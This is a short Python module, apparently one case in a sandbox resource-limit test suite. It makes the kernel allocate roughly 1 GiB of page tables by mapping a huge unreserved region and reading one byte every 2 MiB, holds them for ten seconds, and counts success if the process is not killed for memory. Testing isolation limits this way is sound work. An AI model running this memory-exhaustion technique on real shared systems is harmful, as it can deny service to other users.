"""Hold page tables, by reading pages far apart of memory that nobody has written to."""

from __future__ import annotations

import ctypes
import mmap
import time

from attack_target import libc

ROOM = "tables"
REGION = 2 << 20  # of a page table of 4 KiB
HELD_MIB, HOLD_S = 1024, 10
MADV_NOHUGEPAGE, MAP_NORESERVE = 15, 0x4000


def attack(_):
    libc.mmap.restype = ctypes.c_void_p
    length = HELD_MIB * 256 * REGION
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_NORESERVE
    start = libc.mmap(None, ctypes.c_size_t(length), mmap.PROT_READ, flags, -1, 0)
    libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(length), MADV_NOHUGEPAGE)
    for address in range(start, start + length, REGION):
        ctypes.c_char.from_address(address).value  # noqa: B018
    time.sleep(HOLD_S)


def landed(seen):
    return f"held {HELD_MIB} MiB" * (seen.ended.killed != "memory")
